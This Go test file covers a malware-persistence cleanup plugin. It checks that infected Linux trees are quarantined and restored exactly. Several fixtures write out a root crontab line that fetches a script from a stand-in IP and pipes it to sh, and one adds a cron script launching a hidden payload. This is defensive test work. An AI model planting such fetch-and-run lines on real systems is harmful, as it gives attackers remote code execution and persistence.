package persist

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/abusekit/abusekit/internal/rootfs"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"
)

// node is everything Restore promises to put back for one path.
type node struct {
	Type   string
	Mode   fs.FileMode
	UID    int
	GID    int
	Atime  time.Time
	Mtime  time.Time
	SHA256 string
	Target string
	Xattrs map[string]string
	Flags  uint32
}

// snapshot records every path under dir (without disturbing access
// times: O_NOATIME), skipping the given subtrees.
func snapshot(t *testing.T, dir string, skip ...string) map[string]node {
	t.Helper()
	out := map[string]node{}
	var walk func(p string)
	walk = func(p string) {
		rel, _ := filepath.Rel(dir, p)
		for _, s := range skip {
			if rel == s {
				return
			}
		}
		li, err := os.Lstat(p)
		if err != nil {
			t.Fatal(err)
		}
		n := node{Mode: li.Mode()}
		n.UID, n.GID = rootfs.Owner(li)
		n.Atime, n.Mtime = rootfs.Times(li)
		switch {
		case li.Mode()&fs.ModeSymlink != 0:
			n.Type = "link"
			n.Target, _ = os.Readlink(p)
			n.Atime = time.Time{} // link atimes move on readlink
		case li.IsDir():
			n.Type = "dir"
			fh, err := os.OpenFile(p, os.O_RDONLY|unix.O_NOATIME|syscall.O_NOFOLLOW, 0)
			if err != nil {
				t.Fatal(err)
			}
			n.Flags, _ = rootfs.Flags(fh)
			ents, err := fh.ReadDir(-1)
			fh.Close()
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range ents {
				walk(filepath.Join(p, e.Name()))
			}
		default:
			n.Type = "file"
			fh, err := os.OpenFile(p, os.O_RDONLY|unix.O_NOATIME|syscall.O_NOFOLLOW, 0)
			if err != nil {
				t.Fatal(err)
			}
			h := sha256.New()
			_, _ = io.Copy(h, fh)
			n.SHA256 = hex.EncodeToString(h.Sum(nil))
			n.Flags, _ = rootfs.Flags(fh)
			x, _ := rootfs.Xattrs(fh)
			fh.Close()
			if len(x) > 0 {
				n.Xattrs = map[string]string{}
				for k, v := range x {
					n.Xattrs[k] = string(v)
				}
			}
		}
		out["/"+filepath.ToSlash(rel)] = n
	}
	walk(dir)
	// The root directory itself: its times are the test's business.
	delete(out, "/.")
	return out
}

func infectedTree() hosttest.Tree {
	t := hosttest.Kinsing(hosttest.Work32(hosttest.Debian12(), "/home/admin"))
	e, _ := t.Get("/tmp/kdevtmpfsi")
	e.Xattrs = map[string]string{"user.origin": "dropper", "trusted.mark": "\x00\x01"}
	e.UID, e.GID = 1000, 1000
	e.Mode = 0o755 | fs.ModeSetuid // to check mode bits survive
	e2, _ := t.Get("/etc/systemd/system/bot.service")
	e2.Xattrs = map[string]string{"user.note": "unit"}
	e3, _ := t.Get("/etc/hosts")
	e3.Xattrs = map[string]string{"user.selinux-like": "system_u:object_r:net_conf_t:s0"}
	return t.With(e, e2, e3)
}

func TestApplyRestoreRoundTrip(t *testing.T) {
	needRoot(t, "chown, chattr +i and trusted.* xattrs")
	ctx := context.Background()
	dir := build(t, infectedTree())
	before := snapshot(t, dir)
	stock := t.TempDir()
	if err := hosttest.Write(stock, hosttest.Debian12()); err != nil {
		t.Fatal(err)
	}

	findings, err := Find(ctx, Options{Root: dir, Since: hosttest.InfectionTime.Add(-time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	plan, err := Plan(ctx, findings, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if plan.Live || len(plan.Reloads) != 0 {
		t.Errorf("offline root: live=%v reloads=%v", plan.Live, plan.Reloads)
	}
	ops := map[string]Op{}
	for _, c := range plan.Changes {
		ops[c.Path] = c.Op
	}
	for p, op := range map[string]Op{
		"/etc/systemd/system/bot.service":                                      OpQuarantine,
		"/etc/systemd/system/bot.timer":                                        OpQuarantine,
		"/etc/systemd/system/multi-user.target.wants/bot.service":              OpUnlink,
		"/etc/systemd/system/timers.target.wants/bot.timer":                    OpUnlink,
		"/root/.config/systemd/user/default.target.wants/dbus-session.service": OpUnlink,
		"/etc/init.d/netns":                                                    OpQuarantine,
		"/etc/rc2.d/S99netns":                                                  OpUnlink,
		"/etc/passwd":                                                          OpRemoveLines,
		"/etc/shadow":                                                          OpRemoveLines,
		"/etc/hosts":                                                           OpRemoveLines,
		"/var/spool/cron/crontabs/root":                                        OpRemoveLines,
		"/tmp/.X11-unix/.work32":                                               OpQuarantine,
		"/tmp/kdevtmpfsi":                                                      OpQuarantine,
		"/usr/local/lib/libsystem.so":                                          OpQuarantine,
		"/etc/ld.so.preload":                                                   OpRemoveLines,
		"/root/.ssh/authorized_keys2":                                          OpRemoveLines,
		"/etc/systemd/system/ssh.service.d/override.conf":                      OpQuarantine,
	} {
		if ops[p] != op {
			t.Errorf("plan for %s = %q, want %q", p, ops[p], op)
		}
	}
	for _, p := range []string{"/usr/lib/systemd/system/ssh.service", "/etc/systemd/system/multi-user.target.wants/ssh.service", "/etc/crontab"} {
		if _, ok := ops[p]; ok {
			t.Errorf("plan touches stock %s", p)
		}
	}

	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	// Infection gone: nothing high is left.
	again, err := Find(ctx, Options{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range again {
		if f.Severity >= High {
			t.Errorf("after Apply: %s", f)
		}
	}
	// Line-level files: only the bad lines went, the rest is byte-identical.
	for _, p := range []string{"/etc/passwd", "/etc/shadow", "/etc/hosts", "/home/admin/.bashrc"} {
		if got, want := mustRead(t, dir, p), mustRead(t, stock, p); got != want {
			t.Errorf("%s after Apply differs from stock:\n%s", p, cmp.Diff(want, got))
		}
	}
	wantCron := "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (/tmp/crontab.h3Jw2c installed on Sun Apr 27 14:40:02 2025)\n# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n@daily /usr/bin/find /var/log/app -name '*.gz' -mtime +7 -delete\n"
	if got := mustRead(t, dir, "/var/spool/cron/crontabs/root"); got != wantCron {
		t.Errorf("crontab after Apply:\n%s", cmp.Diff(wantCron, got))
	}
	if b, err := os.ReadFile(filepath.Join(dir, "/etc/ld.so.preload")); err != nil || len(b) != 0 {
		t.Errorf("ld.so.preload after Apply = %q, %v", b, err)
	}
	// The immutable crontab was editable and is no longer immutable.
	if n := snapshot(t, dir)["/var/spool/cron/crontabs/root"]; n.Flags&rootfs.FlagImmutable != 0 && !flagsDropped(t) {
		t.Error("crontab still immutable")
	}
	// Quarantined copies are read-only and match the manifest.
	m, err := ReadManifest(res.ManifestPath)
	if err != nil {
		t.Fatal(err)
	}
	var sawImm, sawX bool
	for _, e := range m.Entries {
		if e.Stored != "" {
			fi, err := os.Stat(filepath.Join(m.QuarantineDir, e.Stored))
			if err != nil || fi.Mode().Perm() != 0o400 {
				t.Errorf("stored %s: %v %v", e.Stored, fi, err)
			}
		}
		if e.Path == "/var/spool/cron/crontabs/root" && e.Flags&rootfs.FlagImmutable != 0 {
			sawImm = true
		}
		if e.Path == "/tmp/kdevtmpfsi" && string(e.Xattrs["trusted.mark"]) == "\x00\x01" && e.UID == 1000 && fs.FileMode(e.Mode)&fs.ModeSetuid != 0 {
			sawX = true
		}
	}
	if (!sawImm || !sawX) && !flagsDropped(t) {
		t.Errorf("manifest lacks immutable flag (%v) or xattrs/owner/mode (%v)", sawImm, sawX)
	}

	rr, err := Restore(ctx, res.ManifestPath, RestoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rr.Restored) != len(m.Entries) {
		t.Errorf("restored %d of %d", len(rr.Restored), len(m.Entries))
	}
	after := snapshot(t, dir)
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
	// A second restore refuses to overwrite.
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); !errors.Is(err, ErrExists) && !errors.Is(err, ErrChanged) {
		t.Errorf("second restore: %v", err)
	}
}

func TestApplyDefaultQuarantineInsideRoot(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime))
	fs1, _ := Find(ctx, Options{Root: dir})
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	res, err := Apply(ctx, plan, ApplyOptions{Incident: "case 123/../x"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.ManifestPath, filepath.Join(dir, "var/lib/abusekit/quarantine", "case_123_.._x-")) {
		t.Errorf("manifest at %s", res.ManifestPath)
	}
	if strings.Contains(mustRead(t, dir, "/etc/crontab"), "203.0.113.7") {
		t.Error("line not removed")
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(mustRead(t, dir, "/etc/crontab"), "203.0.113.7") {
		t.Error("line not restored")
	}
}

func TestApplyRefusesChangedFile(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime))
	fs1, _ := Find(ctx, Options{Root: dir})
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "etc/crontab"), []byte("# replaced\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err = Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if !errors.Is(err, ErrChanged) {
		t.Fatalf("Apply on a changed file: %v", err)
	}
	if got := mustRead(t, dir, "/etc/crontab"); got != "# replaced\n" {
		t.Errorf("changed file was touched: %q", got)
	}
}

func TestApplyHostileLinks(t *testing.T) {
	ctx := context.Background()
	outside := filepath.Join(t.TempDir(), "host-secret")
	if err := os.WriteFile(outside, []byte("host\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := build(t, hosttest.Hostile(hosttest.Debian12(), outside))
	shadowBefore := mustRead(t, dir, "/etc/shadow")
	fs1, _ := Find(ctx, Options{Root: dir})
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range plan.Changes {
		if c.Op != OpUnlink {
			t.Errorf("hostile tree: %s %s", c.Op, c.Path)
		}
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "etc/cron.d/x")); !errors.Is(err, fs.ErrNotExist) {
		t.Error("planted link still there")
	}
	if mustRead(t, dir, "/etc/shadow") != shadowBefore {
		t.Error("link target was modified")
	}
	if b, _ := os.ReadFile(outside); string(b) != "host\n" {
		t.Error("file outside the root was modified")
	}
	if _, err := os.Stat(filepath.Join(dir, "etc/passwd")); err != nil {
		t.Error("root contents harmed")
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if tgt, err := os.Readlink(filepath.Join(dir, "home/eve/.ssh")); err != nil || tgt != "/" {
		t.Errorf("restored link = %q, %v", tgt, err)
	}
}

func TestSymlinkEscapeIsSentinel(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/etc/evil", Link: "../../../../../../.."}))
	plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/etc/evil/passwd", Op: OpQuarantine}}}
	_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if !errors.Is(err, ErrSymlinkEscape) {
		t.Errorf("Apply through an escaping link: %v", err)
	}
	_, err = Plan(ctx, []Finding{{Path: "/etc/evil/passwd", Action: ActionQuarantine, Severity: Critical}}, PlanOptions{Root: dir})
	if !errors.Is(err, ErrSymlinkEscape) {
		t.Errorf("Plan through an escaping link: %v", err)
	}
}

func TestApplyReloadsOnlyLive(t *testing.T) {
	dir := t.TempDir()
	plan := &CleanPlan{Root: dir, Live: true, Reloads: []Reload{{Command: []string{"systemctl", "daemon-reload"}}}}
	ran := false
	_, err := Apply(context.Background(), plan, ApplyOptions{RunReloads: true, QuarantineDir: t.TempDir(),
		Run: func(context.Context, []string) error { ran = true; return nil }})
	if !errors.Is(err, ErrNotLive) || ran {
		t.Errorf("reloads on %s: err=%v ran=%v", dir, err, ran)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 0 {
		t.Errorf("Apply wrote into the root before refusing: %v", entries)
	}
}

func TestPlanReloadsListed(t *testing.T) {
	dir := build(t, hosttest.Debian12())
	r, err := rootfs.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	p := &planner{fs: r, plan: &CleanPlan{}, cron: true, units: true, udev: true, users: map[string]bool{"root": true, "": true}}
	p.reloads()
	var got []string
	for _, rl := range p.plan.Reloads {
		got = append(got, strings.Join(rl.Command, " "))
	}
	sort.Strings(got)
	want := []string{"systemctl --user --machine=root@ daemon-reload", "systemctl daemon-reload", "systemctl kill --kill-whom=main --signal=SIGHUP user@*.service", "systemctl reload-or-restart cron", "udevadm control --reload-rules"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// An immutable directory holding a payload: Apply clears the directory's
// flag to remove the file, records it, and Restore sets it again.
func TestApplyRestoreImmutableDir(t *testing.T) {
	needRoot(t, "chattr +i")
	ctx := context.Background()
	tree := hosttest.Debian12().With(
		hosttest.Entry{Path: "/etc/cron.hourly/sync", Data: "#!/bin/sh\n/var/tmp/.k/k >/dev/null 2>&1\n", Mtime: hosttest.InfectionTime, Immutable: true},
		hosttest.Entry{Path: "/etc/cron.hourly", Dir: true, Immutable: true},
	)
	dir := build(t, tree)
	needFlags(t)
	before := snapshot(t, dir)
	fs1, _ := Find(ctx, Options{Root: dir})
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	var ops []string
	for _, c := range plan.Changes {
		ops = append(ops, string(c.Op)+" "+c.Path)
	}
	want := []string{"clear-flags /etc/cron.hourly", "quarantine /etc/cron.hourly/sync"}
	if diff := cmp.Diff(want, ops); diff != "" {
		t.Fatalf("plan (-want +got):\n%s", diff)
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "etc/cron.hourly/sync")); !errors.Is(err, fs.ErrNotExist) {
		t.Fatal("payload not removed")
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
	if n := snapshot(t, dir)["/etc/cron.hourly"]; n.Flags&rootfs.FlagImmutable == 0 {
		t.Error("directory flag not restored")
	}
}

func TestRestoreRefusals(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().
		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime).
		With(hosttest.Entry{Path: "/etc/cron.daily/upd", Data: "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"}))
	orig := mustRead(t, dir, "/etc/crontab")
	fs1, _ := Find(ctx, Options{Root: dir})
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	m, _ := ReadManifest(res.ManifestPath)

	// The admin edits the crontab after cleaning: restore refuses…
	if err := os.WriteFile(filepath.Join(dir, "etc/crontab"), []byte(mustRead(t, dir, "/etc/crontab")+"# admin\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// …and something re-creates the quarantined script.
	if err := os.WriteFile(filepath.Join(dir, "etc/cron.daily/upd"), []byte("new"), 0o755); err != nil {
		t.Fatal(err)
	}
	_, err = Restore(ctx, res.ManifestPath, RestoreOptions{})
	if !errors.Is(err, ErrChanged) || !errors.Is(err, ErrExists) {
		t.Fatalf("restore over changes: %v", err)
	}
	if b := mustRead(t, dir, "/etc/cron.daily/upd"); b != "new" {
		t.Error("restore overwrote an existing file")
	}
	// Force puts the edited file back.
	os.Remove(filepath.Join(dir, "etc/cron.daily/upd"))
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Force: true}); err != nil {
		t.Fatal(err)
	}
	if got := mustRead(t, dir, "/etc/crontab"); got != orig {
		t.Error("forced restore is not the original")
	}

	// A tampered quarantine copy is refused.
	for _, e := range m.Entries {
		if e.Stored != "" {
			p := filepath.Join(m.QuarantineDir, e.Stored)
			_ = os.Chmod(p, 0o600)
			if err := os.WriteFile(p, []byte("tampered"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	os.Remove(filepath.Join(dir, "etc/cron.daily/upd"))
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Force: true}); !errors.Is(err, ErrBadManifest) {
		t.Errorf("tampered copy: %v", err)
	}
	if _, err := Restore(ctx, filepath.Join(t.TempDir(), "none.json"), RestoreOptions{}); !errors.Is(err, ErrBadManifest) {
		t.Errorf("missing manifest: %v", err)
	}
}

func TestSeverityText(t *testing.T) {
	for _, s := range []Severity{Info, Low, Medium, High, Critical} {
		b, _ := s.MarshalText()
		var back Severity
		if err := back.UnmarshalText(b); err != nil || back != s {
			t.Errorf("%v -> %s -> %v, %v", s, b, back, err)
		}
	}
	if _, err := ParseSeverity("extreme"); err == nil {
		t.Error("unknown severity parsed")
	}
}

// The work32 infection on Amazon Linux (no dpkg metadata, RHEL crontab
// path): cleaned, then restored identically.
func TestApplyRestoreRoundTripAmazonLinux(t *testing.T) {
	needRoot(t, "chattr +i on the crontab")
	ctx := context.Background()
	dir := build(t, hosttest.Work32(hosttest.AmazonLinux2023(), "/home/ec2-user"))
	before := snapshot(t, dir)
	fs1, err := Find(ctx, Options{Root: dir, Since: hosttest.InfectionTime.Add(-time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	again, _ := Find(ctx, Options{Root: dir})
	for _, f := range again {
		if f.Severity >= High {
			t.Errorf("after Apply: %s", f)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "tmp/.X11-unix/.work32")); !errors.Is(err, fs.ErrNotExist) {
		t.Error("payload not quarantined")
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
}

// On the live root the reloads run (through the injected runner: nothing
// on this host is changed, the plan has no file changes and the
// quarantine is a temporary directory); elsewhere Restore refuses them.
func TestReloadsRunOnLiveRoot(t *testing.T) {
	ctx := context.Background()
	var ran []string
	run := func(_ context.Context, argv []string) error {
		ran = append(ran, strings.Join(argv, " "))
		if argv[0] == "udevadm" {
			return errors.New("udevadm: not here")
		}
		return nil
	}
	plan := &CleanPlan{Root: "/", Live: true, Reloads: []Reload{{Command: []string{"systemctl", "daemon-reload"}}, {Command: []string{"udevadm", "control", "--reload-rules"}}}}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir(), RunReloads: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"systemctl daemon-reload", "udevadm control --reload-rules"}, ran); diff != "" {
		t.Error(diff)
	}
	if len(res.ReloadErrors) != 1 || !res.Manifest.ReloadsRun || len(res.Manifest.Reloads) != 2 {
		t.Errorf("result: %+v", res)
	}
	// The same manifest restored against a non-live root with reloads asked.
	_, err = Restore(ctx, res.ManifestPath, RestoreOptions{Root: t.TempDir(), RunReloads: true, Run: run})
	if !errors.Is(err, ErrNotLive) {
		t.Errorf("restore reloads off the live root: %v", err)
	}
	rr, err := Restore(ctx, res.ManifestPath, RestoreOptions{RunReloads: true, Run: run})
	if err != nil || len(rr.Reloads) != 2 || len(ran) != 4 {
		t.Errorf("restore on live root: %+v %v ran=%v", rr, err, ran)
	}
}
